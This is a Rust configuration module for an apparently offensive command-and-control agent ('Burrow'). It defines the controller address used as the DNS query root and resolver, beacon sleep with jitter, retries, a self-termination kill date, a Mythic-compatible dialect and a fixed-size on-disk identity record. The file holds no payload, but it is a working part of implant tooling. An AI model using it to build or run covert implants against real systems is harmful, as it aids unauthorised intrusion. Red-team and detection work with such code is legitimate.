//! Configuration for binaries.

use std::{env, path::Path, time::Duration};

use bytes::{Buf, BufMut, BytesMut};
use chrono::Datelike;
use config::{Config, ConfigError, Environment, File};
use serde::Deserialize;

use crate::{BurrowError, Result};

const DEFAULT_SLEEP_INTERVAL_MS: u32 = 10_000;
const DEFAULT_JITTER_PERCENT: u32 = 20;
const DEFAULT_MAX_RETRIES: u32 = 3;

/// Size of the opaque on-disk identity record.
pub const RECORD_LEN: usize = 64 + 64 + 4 + 4 + 4 + 4 + 128 + 1 + 1;

/// Which wire grammar the session speaks. Picked once, never mixed.
#[derive(Debug, Deserialize, Clone, Copy, PartialEq, Eq, Default)]
#[serde(rename_all = "lowercase")]
pub enum DialectKind {
    #[default]
    Minimal,
    Mythic,
}

/// Operational identity of this agent.
///
/// Owned by the poll loop; the query builders read it on every exchange.
#[derive(Debug, Deserialize, Clone)]
pub struct AgentIdentity {
    /// Controller address, used both as the query-name root and as the
    /// resolver every lookup is sent to.
    pub c2_address: String,
    #[serde(default = "default_agent_id")]
    pub agent_id: String,
    #[serde(default = "default_sleep_interval")]
    pub sleep_interval_ms: u32,
    #[serde(default = "default_jitter")]
    pub jitter_percent: u32,
    #[serde(default = "default_retries")]
    pub max_retries: u32,
    /// YYYYMMDD; reaching it shuts the agent down for good.
    #[serde(default)]
    pub kill_date: Option<u32>,
    #[serde(default)]
    pub working_dir: Option<String>,
    #[serde(default)]
    pub debug: bool,
    #[serde(default)]
    pub dialect: DialectKind,
}

fn default_agent_id() -> String {
    format!("agent-{:08x}", fastrand::u32(..))
}

fn default_sleep_interval() -> u32 {
    DEFAULT_SLEEP_INTERVAL_MS
}

fn default_jitter() -> u32 {
    DEFAULT_JITTER_PERCENT
}

fn default_retries() -> u32 {
    DEFAULT_MAX_RETRIES
}

impl AgentIdentity {
    /// Sleep interval with jitter applied: base shifted by up to
    /// `jitter_percent` of itself, magnitude and direction drawn
    /// independently.
    pub fn jittered_sleep(&self) -> Duration {
        let base = u64::from(self.sleep_interval_ms);
        let jitter = u64::from(self.jitter_percent.min(100));
        if base == 0 || jitter == 0 {
            return Duration::from_millis(base);
        }

        let span = base * jitter / 100;
        let magnitude = fastrand::u64(0..=span);
        let ms = if fastrand::bool() {
            base + magnitude
        } else {
            base - magnitude
        };
        Duration::from_millis(ms)
    }

    pub fn kill_date_reached(&self) -> bool {
        let now = chrono::Local::now();
        let today = now.year() as u32 * 10_000 + now.month() * 100 + now.day();
        self.kill_date_reached_on(today)
    }

    pub fn kill_date_reached_on(&self, today: u32) -> bool {
        self.kill_date.is_some_and(|kill| today >= kill)
    }

    /// Serializes the identity as a fixed-size binary record: zero-padded
    /// string fields, little-endian scalars, no version field.
    pub fn to_record(&self) -> Vec<u8> {
        let mut buf = BytesMut::with_capacity(RECORD_LEN);
        put_padded(&mut buf, &self.c2_address, 64);
        put_padded(&mut buf, &self.agent_id, 64);
        buf.put_u32_le(self.sleep_interval_ms);
        buf.put_u32_le(self.jitter_percent);
        buf.put_u32_le(self.max_retries);
        buf.put_u32_le(self.kill_date.unwrap_or(0));
        put_padded(&mut buf, self.working_dir.as_deref().unwrap_or(""), 128);
        buf.put_u8(u8::from(self.debug));
        buf.put_u8(match self.dialect {
            DialectKind::Minimal => 0,
            DialectKind::Mythic => 1,
        });
        buf.to_vec()
    }

    /// Parses a record written by [`to_record`](Self::to_record); anything
    /// but an exact-size buffer is rejected.
    pub fn from_record(input: &[u8]) -> Result<Self> {
        if input.len() != RECORD_LEN {
            return Err(BurrowError::MalformedPackage(
                "identity record has wrong size",
            ));
        }

        let mut buf = input;
        let c2_address = take_padded(&mut buf, 64);
        let agent_id = take_padded(&mut buf, 64);
        let sleep_interval_ms = buf.get_u32_le();
        let jitter_percent = buf.get_u32_le().min(100);
        let max_retries = buf.get_u32_le();
        let kill_date = match buf.get_u32_le() {
            0 => None,
            date => Some(date),
        };
        let working_dir = match take_padded(&mut buf, 128) {
            dir if dir.is_empty() => None,
            dir => Some(dir),
        };
        let debug = buf.get_u8() != 0;
        let dialect = match buf.get_u8() {
            1 => DialectKind::Mythic,
            _ => DialectKind::Minimal,
        };

        Ok(AgentIdentity {
            c2_address,
            agent_id,
            sleep_interval_ms,
            jitter_percent,
            max_retries,
            kill_date,
            working_dir,
            debug,
            dialect,
        })
    }

    pub fn save_record(&self, path: &Path) -> Result<()> {
        std::fs::write(path, self.to_record())?;
        Ok(())
    }

    pub fn load_record(path: &Path) -> Result<Self> {
        let blob = std::fs::read(path)?;
        Self::from_record(&blob)
    }
}

fn put_padded(buf: &mut BytesMut, value: &str, width: usize) {
    let bytes = value.as_bytes();
    let len = bytes.len().min(width);
    buf.put_slice(&bytes[..len]);
    buf.put_bytes(0, width - len);
}

fn take_padded(buf: &mut &[u8], width: usize) -> String {
    let field = &buf[..width];
    let end = field.iter().position(|&b| b == 0).unwrap_or(width);
    let value = String::from_utf8_lossy(&field[..end]).into_owned();
    buf.advance(width);
    value
}

/// General configuration values.
#[derive(Debug, Deserialize, Clone)]
pub struct Settings {
    pub agent: AgentIdentity,
}

impl Settings {
    pub fn new() -> std::result::Result<Self, ConfigError> {
        let mode = env::var("BURROW_RUN_MODE").unwrap_or_else(|_| "dev".into());

        let conf = Config::builder()
            .add_source(File::with_name("config/default").required(false))
            .add_source(File::with_name(&format!("config/{mode}")).required(false))
            .add_source(Environment::with_prefix("BURROW").separator("__"))
            .build()?;

        conf.try_deserialize()
    }
}
